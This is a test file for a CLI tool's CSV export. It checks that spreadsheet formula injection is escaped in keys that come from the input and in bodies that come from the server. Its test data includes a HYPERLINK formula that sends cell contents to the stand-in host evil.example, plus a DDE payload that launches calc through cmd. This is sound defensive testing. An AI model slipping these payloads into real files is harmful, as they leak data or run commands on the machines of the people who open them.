/**
 * Issue 14, row 9: a CSV export opened in a spreadsheet runs no formula, whether it came from
 * the input (`key`) or from the server (bodies).
 */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, type ExportRecord, toCsvRow } from '../../src/index.js';
import { runCli, tempDir, writeLines } from '../batch/batch-support.js';
import { startTarget, type Target } from './secrets-support.js';

/** Splits RFC 4180 CSV into rows of cells (quoted cells may hold commas, quotes, line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
}

const FORMULAS = ['=1+1', '+1+1', '-1+1', '@SUM(A1:A2)', '\t=1+1', '\r=1+1'];
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';

describe('csvCell: OWASP formula-injection escaping', () => {
  it("prefixes ' and quotes text starting with = + - @ tab or CR; leaves the rest as RFC 4180", () => {
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('+1')).toBe(`"'+1"`);
    expect(csvCell('-1')).toBe(`"'-1"`);
    expect(csvCell('@SUM(A1)')).toBe(`"'@SUM(A1)"`);
    expect(csvCell('\tx')).toBe(`"'\tx"`);
    expect(csvCell('\rx')).toBe(`"'\rx"`);
    expect(csvCell(HYPERLINK)).toBe(`"'${HYPERLINK.replaceAll('"', '""')}"`);
    expect(csvCell('a;=1+1')).toBe('"a;=1+1"'); // a ; separator (some locales) cannot start a cell
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell(-1)).toBe('-1'); // numbers are numbers
    expect(csvCell(null)).toBe('');
  });

  it('applies to every text column of a row', () => {
    const record = {
      line: 1,
      key: '=key',
      method: 'GET',
      url: null,
      raw: '+raw',
      state: 'invalid',
      status: null,
      reason: 'invalid',
      error: { code: 'ERR', message: '-message' },
      attempts: 0,
      retries: 0,
      history: [],
      headers: null,
      bodySize: null,
      bodyPath: '@path',
      firstAttemptAt: null,
      finishedAt: null,
      ttfbMs: null,
      durationMs: null,
      lastAttemptMs: null,
      body: '=body',
      bodyEncoding: 'utf8',
    } satisfies ExportRecord;
    const cells = parseCsv(toCsvRow(record, true))[0] ?? [];
    expect(cells.filter((c) => /^[=+\-@]/.test(c))).toEqual([]);
    expect(cells).toEqual(
      expect.arrayContaining(["'=key", "'+raw", "'-message", "'@path", "'=body"]),
    );
  });
});

describe('dogged export --format csv', () => {
  let target: Target;
  let dir: string;
  let cleanup: () => void;
  beforeAll(async () => {
    target = await startTarget();
    ({ dir, cleanup } = tempDir('dogged-csv-'));
  });
  afterAll(async () => {
    await target.close();
    cleanup();
  });

  it('escapes keys from the input and bodies from the server, with or without --include-secrets', async () => {
    const lines = [
      ...FORMULAS.map((key, i) => JSON.stringify({ url: `${target.url}/body?text=ok${i}`, key })),
      JSON.stringify({
        url: `${target.url}/body?text=${encodeURIComponent(HYPERLINK)}`,
        key: 'a;=cmd|" /C calc"!A0',
      }),
    ];
    const input = writeLines(dir, 'in.jsonl', lines);
    const db = join(dir, 'run.sqlite');
    const run = await runCli(['batch', input, '--db', db, '-q']);
    expect(run.code, run.stderr).toBe(0);
    for (const extra of [[], ['--include-secrets']]) {
      const exported = await runCli(['export', db, '--format', 'csv', '--bodies', ...extra]);
      expect(exported.code, exported.stderr).toBe(0);
      const [header, ...rows] = parseCsv(exported.stdout);
      expect(header?.slice(0, 2)).toEqual(['line', 'key']);
      const bodyColumn = header?.indexOf('body') ?? -1;
      expect(rows).toHaveLength(lines.length);
      // No cell a spreadsheet would run: none starts with = + - @ tab or CR.
      for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      expect(rows.map((r) => r[1])).toEqual([
        ...FORMULAS.map((f) => `'${f}`),
        'a;=cmd|" /C calc"!A0', // quoted: its ; cannot start a cell
      ]);
      expect(rows.at(-1)?.[bodyColumn]).toBe(`'${HYPERLINK}`);
      // The raw text, quoted: each dangerous cell is a quoted string starting with '.
      expect(exported.stdout).toContain(`"'${HYPERLINK.replaceAll('"', '""')}"`);
    }
  }, 30_000);
});
